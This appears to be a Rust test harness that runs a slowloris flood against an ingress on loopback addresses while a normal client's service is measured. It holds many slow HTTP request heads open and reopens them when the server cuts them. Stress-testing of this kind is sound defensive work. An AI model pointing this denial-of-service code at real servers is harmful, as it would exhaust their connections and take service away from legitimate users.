//! Hostile connections held against the ingress while a well-behaved client is
//! measured: slow request heads (slowloris) from many loopback addresses, each
//! reopened as soon as the runtime cuts it, as a determined attacker would.

use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::time::Duration;
use tokio::io::AsyncWriteExt;
use tokio::net::{TcpSocket, TcpStream};

/// Connections one attacking address holds: the runtime's default per-address
/// limit, so that they are all let in.
const PER_ADDRESS: usize = 256;

/// A flood of slow connections to one address, until dropped.
pub struct Slowloris {
    stop: Arc<AtomicBool>,
    open: Arc<AtomicUsize>,
    tasks: Vec<tokio::task::JoinHandle<()>>,
}

impl Slowloris {
    /// Holds about `connections` slow connections to `target`, from 127.0.1.x
    /// addresses, `PER_ADDRESS` each.
    pub fn start(target: SocketAddr, host: &str, connections: usize) -> Self {
        raise_own_file_limit();
        let (stop, open) = (
            Arc::new(AtomicBool::new(false)),
            Arc::new(AtomicUsize::new(0)),
        );
        let head = format!("GET / HTTP/1.1\r\nHost: {host}\r\nX-Slow: 1\r\n");
        let tasks = (0..connections.div_ceil(PER_ADDRESS))
            .map(|n| {
                let from = IpAddr::V4(Ipv4Addr::new(
                    127,
                    0,
                    1 + (n / 250) as u8,
                    1 + (n % 250) as u8,
                ));
                let count = PER_ADDRESS.min(connections - n * PER_ADDRESS);
                tokio::spawn(hold(
                    from,
                    target,
                    count,
                    head.clone(),
                    stop.clone(),
                    open.clone(),
                ))
            })
            .collect();
        Self { stop, open, tasks }
    }

    /// Slow connections open now.
    pub fn open(&self) -> usize {
        self.open.load(Ordering::Relaxed)
    }
}

impl Drop for Slowloris {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        for task in &self.tasks {
            task.abort();
        }
    }
}

/// Keeps `count` slow connections from `from` open, reopening those cut.
async fn hold(
    from: IpAddr,
    target: SocketAddr,
    count: usize,
    head: String,
    stop: Arc<AtomicBool>,
    open: Arc<AtomicUsize>,
) {
    let mut held: Vec<TcpStream> = Vec::with_capacity(count);
    while !stop.load(Ordering::Relaxed) {
        let before = held.len();
        held.retain(still_open);
        open.fetch_sub(before - held.len(), Ordering::Relaxed);
        while held.len() < count {
            match connect(from, target, &head).await {
                Some(stream) => {
                    held.push(stream);
                    open.fetch_add(1, Ordering::Relaxed);
                }
                None => break,
            }
        }
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
}

async fn connect(from: IpAddr, target: SocketAddr, head: &str) -> Option<TcpStream> {
    let socket = TcpSocket::new_v4().ok()?;
    socket.bind(SocketAddr::new(from, 0)).ok()?;
    let mut stream = socket.connect(target).await.ok()?;
    stream.write_all(head.as_bytes()).await.ok()?;
    Some(stream)
}

fn still_open(stream: &TcpStream) -> bool {
    match stream.try_read(&mut [0u8; 1]) {
        Ok(0) => false,
        Ok(_) => true,
        Err(e) => e.kind() == std::io::ErrorKind::WouldBlock,
    }
}

/// The flood needs a descriptor per connection.
fn raise_own_file_limit() {
    use nix::sys::resource::{Resource, getrlimit, setrlimit};
    if let Ok((_, hard)) = getrlimit(Resource::RLIMIT_NOFILE) {
        let _ = setrlimit(Resource::RLIMIT_NOFILE, hard, hard);
    }
}
